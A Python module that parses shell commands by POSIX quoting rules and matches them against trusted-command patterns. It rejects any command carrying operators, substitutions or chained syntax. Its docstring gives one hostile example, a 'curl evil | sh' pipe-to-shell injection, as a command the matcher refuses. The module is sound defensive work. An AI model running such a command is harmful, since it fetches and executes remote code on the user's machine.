"""Read a shell command the way a POSIX shell would, as far as a policy needs it: its words,
and whether it is one simple command of plain words.

A command string is *simple* when it splits (POSIX quoting rules, as ``shlex`` in POSIX mode)
into words with no shell syntax outside single quotes: no operator (``;``, ``&``, ``|``,
``&&``, ``||``, ``<``, ``>``, ``(``, ``)``), no newline, no substitution or expansion (``$``,
backticks), no comment, no leading ``NAME=value`` assignment. Globs (``*``, ``?``, ``[``),
brace expansion (``{``) and ``~`` at the start of a word are allowed but the word is marked
*expanded*: the shell may turn it into other words, so a trusted pattern matches it only
literally.

A trusted-command pattern (``systemctl status *``) is split the same way; its words match the
command's words one for one, a ``*`` word stands for any number of whole words (none
included), and glob characters inside a word (``--since=*``) match within that word only.
So ``*`` never spans an operator: ``systemctl status x; curl evil | sh`` is not simple and
matches no pattern.
"""

from __future__ import annotations

import fnmatch
import re
from collections.abc import Sequence
from dataclasses import dataclass
from functools import cache

_OPERATORS = frozenset(";&|<>()")
_GLOB = frozenset("*?[")
_ASSIGNMENT = re.compile(r"[A-Za-z_][A-Za-z0-9_]*=")


@dataclass(frozen=True, slots=True)
class Words:
    """A command split into words. ``expanded[i]``: word ``i`` holds an unquoted glob, brace
    or tilde that the shell would expand. ``problem``: the first shell syntax that makes the
    command more than one simple command (None when it is simple)."""

    words: tuple[str, ...]
    expanded: tuple[bool, ...]
    problem: str | None = None

    @property
    def simple(self) -> bool:
        return self.problem is None


def split(text: str) -> Words | None:
    """The words of a shell command, or None when it cannot be split (an unterminated quote,
    a trailing backslash)."""
    words: list[str] = []
    expanded: list[bool] = []
    problem: str | None = None
    current: list[str] = []
    in_word = False
    glob = False
    head: str | None = None  # the word's text before its first quote or escape
    only_assignments = True  # every word so far is a NAME=value assignment
    i, n = 0, len(text)

    def note(what: str) -> None:
        nonlocal problem
        if problem is None:
            problem = what

    def quoted() -> None:
        nonlocal head, in_word
        if head is None:
            head = "".join(current)
        in_word = True

    def end_word() -> None:
        nonlocal in_word, glob, head, only_assignments
        if in_word:
            word = "".join(current)
            if only_assignments and _ASSIGNMENT.match(word if head is None else head):
                note("a variable assignment before the command")
            else:
                only_assignments = False
            words.append(word)
            expanded.append(glob)
        current.clear()
        in_word = glob = False
        head = None

    while i < n:
        ch = text[i]
        if ch in " \t":
            end_word()
            i += 1
        elif ch == "\n":
            note("a newline (several commands)")
            end_word()
            i += 1
        elif ch == "#" and not in_word:
            note("a comment")
            break
        elif ch == "'":
            end = text.find("'", i + 1)
            if end < 0:
                return None
            quoted()
            current.append(text[i + 1 : end])
            i = end + 1
        elif ch == '"':
            quoted()
            i += 1
            while True:
                if i >= n:
                    return None
                c = text[i]
                if c == '"':
                    break
                if c == "\\" and i + 1 < n and text[i + 1] in '$`"\\\n':
                    if text[i + 1] != "\n":
                        current.append(text[i + 1])
                    i += 2
                    continue
                if c in "$`":
                    note("a substitution or expansion ($, `)")
                current.append(c)
                i += 1
            i += 1
        elif ch == "\\":
            if i + 1 >= n:
                return None
            if text[i + 1] != "\n":  # a backslash-newline joins lines
                quoted()
                current.append(text[i + 1])
            i += 2
        elif ch in _OPERATORS:
            note(f"the shell operator {_operator_at(text, i)!r}")
            end_word()
            i += 1
        else:
            if ch in "$`":
                note("a substitution or expansion ($, `)")
            elif ch in _GLOB or ch == "{" or (ch == "~" and not in_word):
                glob = True
            current.append(ch)
            in_word = True
            i += 1
    end_word()
    return Words(tuple(words), tuple(expanded), problem)


def _operator_at(text: str, i: int) -> str:
    two = text[i : i + 2]
    return two if two in ("&&", "||", ">>", "<<", ">&", "<&", "|&", ";;") else text[i]


@dataclass(frozen=True, slots=True)
class Pattern:
    """A trusted-command pattern split into words (``*`` alone: any number of words)."""

    text: str
    words: tuple[str, ...]


class PatternError(ValueError):
    """A trusted-command pattern that can never match a simple command."""


@cache
def compile_pattern(text: str) -> Pattern:
    split_ = split(text)
    if split_ is None:
        raise PatternError(f"{text!r} cannot be split into words (an unterminated quote?)")
    if split_.problem is not None:
        raise PatternError(
            f"{text!r} has shell syntax ({split_.problem}); a trusted command is one simple "
            "command of plain words"
        )
    if not split_.words:
        raise PatternError("an empty pattern")
    return Pattern(text, split_.words)


def _word_matches(pattern: str, word: str, expanded: bool) -> bool:
    if expanded:  # the shell would expand it: only the very same text in the pattern
        return pattern == word
    if not any(c in pattern for c in "*?["):
        return pattern == word
    return fnmatch.fnmatchcase(word, pattern)


def words_match(pattern: Pattern, words: Sequence[str], expanded: Sequence[bool]) -> bool:
    """Whether ``words`` (a simple command, or an argv list) match ``pattern`` word for word."""
    pw = pattern.words
    memo: dict[tuple[int, int], bool] = {}

    def go(p: int, w: int) -> bool:
        key = (p, w)
        hit = memo.get(key)
        if hit is not None:
            return hit
        if p == len(pw):
            result = w == len(words)
        elif pw[p] == "*":
            result = any(go(p + 1, k) for k in range(w, len(words) + 1))
        else:
            result = (
                w < len(words) and _word_matches(pw[p], words[w], expanded[w]) and go(p + 1, w + 1)
            )
        memo[key] = result
        return result

    return go(0, 0)


def shell_command_matches(pattern: str, command: str) -> bool:
    """Whether a command string run by a shell matches a trusted pattern: never when the
    command is not one simple command or cannot be split."""
    split_ = split(command)
    if split_ is None or not split_.simple or not split_.words:
        return False
    return words_match(compile_pattern(pattern), split_.words, split_.expanded)


def argv_matches(pattern: str, argv: Sequence[str]) -> bool:
    """Whether an argv list (run without a shell: no word is expanded) matches a pattern."""
    if not argv:
        return False
    return words_match(compile_pattern(pattern), argv, [False] * len(argv))
